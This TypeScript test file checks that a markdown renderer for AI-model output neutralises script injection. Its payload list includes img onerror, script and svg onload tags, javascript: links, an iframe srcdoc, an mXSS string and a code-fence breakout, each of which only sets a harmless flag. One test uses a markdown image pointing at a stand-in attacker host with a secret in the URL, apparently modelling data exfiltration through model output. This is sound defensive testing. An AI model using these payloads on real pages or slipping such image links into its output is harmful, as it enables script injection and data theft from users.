import { afterEach, describe, expect, it } from "vitest";

import { renderMarkdown } from "../../js/markdown";
import { makeContext, renderState } from "../../js/render";
import { emptyState, type ViewState } from "../../js/view_state";

type Flagged = { __pwned?: string };
// Inline handlers run in jsdom's own window, which vitest exposes as `jsdom.window` (the
// test's `window` is a copy of its properties).
const win = ((globalThis as { jsdom?: { window: Flagged } }).jsdom?.window ?? window) as Flagged;

// Each payload, if it ran, would set window.__pwned.
const PAYLOADS = [
  `<img src=x onerror="window.__pwned='img'">`,
  `<script>window.__pwned='script'</script>`,
  `<svg onload="window.__pwned='svg'"><circle r="1"/></svg>`,
  `<details open ontoggle="window.__pwned='details'">x</details>`,
  `<a href="javascript:window.__pwned='href'">click me</a>`,
  `[markdown link](javascript:window.__pwned='md')`,
  `<iframe srcdoc="<script>parent.__pwned='iframe'</script>"></iframe>`,
  `<div onmouseover="window.__pwned='hover'" onclick="window.__pwned='click'">hover</div>`,
  `<form action="javascript:window.__pwned='form'"><button>go</button></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned='mxss'">`,
  "```python\n</code><img src=x onerror=\"window.__pwned='fence'\">\n```",
];

const EVENTS = ["error", "load", "click", "mouseover", "toggle", "focus", "submit"];

/** Fire every event a handler could listen to on every element under `root`. */
function poke(root: ParentNode): void {
  for (const node of Array.from(root.querySelectorAll("*"))) {
    for (const type of EVENTS) node.dispatchEvent(new window.Event(type, { bubbles: true }));
  }
}

function assertInert(root: ParentNode): void {
  expect(root.querySelectorAll("script, iframe, form, object, embed, style, svg, math")).toHaveLength(0);
  for (const node of Array.from(root.querySelectorAll("*"))) {
    for (const attr of Array.from(node.attributes)) {
      expect(attr.name.startsWith("on"), `${node.tagName} ${attr.name}`).toBe(false);
      expect(/^\s*javascript:/i.test(attr.value), `${node.tagName} ${attr.name}=${attr.value}`).toBe(false);
    }
  }
  // Model-chosen image URLs are links, never requests.
  for (const img of Array.from(root.querySelectorAll("img"))) {
    expect(img.getAttribute("src") ?? "").toMatch(/^blob:/);
  }
}

afterEach(() => {
  delete win.__pwned;
  document.body.replaceChildren();
});

describe("model-written markdown", () => {
  it("would run these payloads if it were not sanitised (the harness can see them)", () => {
    const raw = document.createElement("div");
    raw.innerHTML = PAYLOADS[0] + PAYLOADS[7];
    document.body.append(raw);
    poke(raw);
    expect(win.__pwned).toBeDefined();
  });

  it.each(PAYLOADS)("runs nothing of %s", (payload) => {
    const host = document.createElement("div");
    host.append(renderMarkdown(`Here you go:\n\n${payload}\n\nbye`));
    document.body.append(host);
    poke(host);
    for (const a of Array.from(host.querySelectorAll("a"))) a.click();
    assertInert(host);
    expect(win.__pwned).toBeUndefined();
    expect(host.textContent).toContain("Here you go:");
  });

  it("runs nothing in a whole rendered view either", () => {
    const state: ViewState = {
      ...emptyState(),
      items: [
        {
          kind: "message", id: "m", run_id: "r", role: "assistant", status: "completed",
          blocks: PAYLOADS.map((text) => ({ type: "text" as const, text })),
        },
        {
          kind: "tool_call", id: "c", run_id: "r", step_id: "s", index: 0, name: PAYLOADS[0],
          arguments: PAYLOADS[1], output: PAYLOADS[2], status: "completed", error: null,
        },
        {
          kind: "code", id: "k", run_id: "r", step_id: "s", index: 1, code: PAYLOADS[0],
          logs: PAYLOADS[1], images: [], status: "completed", error: { code: PAYLOADS[3], message: PAYLOADS[4] },
        },
      ],
    };
    const root = renderState(state, makeContext());
    document.body.append(root);
    poke(root);
    assertInert(root);
    expect(win.__pwned).toBeUndefined();
    // Tool and code text is shown as text, verbatim.
    expect(root.querySelector(".ipa-tool_call .ipa-name")?.textContent).toBe(PAYLOADS[0]);
  });

  it("keeps ordinary markdown: links open safely, code is highlighted with a copy button", () => {
    const host = document.createElement("div");
    host.append(renderMarkdown("See [docs](https://example.org).\n\n```python\ndef f():\n    return 1\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |"));
    const link = host.querySelector("a") as HTMLAnchorElement;
    expect(link.href).toBe("https://example.org/");
    expect(link.rel).toBe("noopener noreferrer");
    expect(link.target).toBe("_blank");
    expect(host.querySelector("pre code .hljs-keyword")?.textContent).toBe("def");
    expect(host.querySelector("pre > .ipa-code-actions > button.ipa-copy")).not.toBeNull();
    expect(host.querySelector("pre > .ipa-code-actions > button.ipa-insert")?.getAttribute("aria-label")).toBe("Insert into a new cell");
    expect(host.querySelector("table td")?.textContent).toBe("1");
  });

  it("shows a model's image URL as a link and loads nothing", () => {
    const host = document.createElement("div");
    host.append(renderMarkdown("![secret](https://evil.example/p.png?d=SECRET)"));
    expect(host.querySelector("img")).toBeNull();
    expect(host.querySelector("a")?.textContent).toBe("[image: secret]");
  });
});
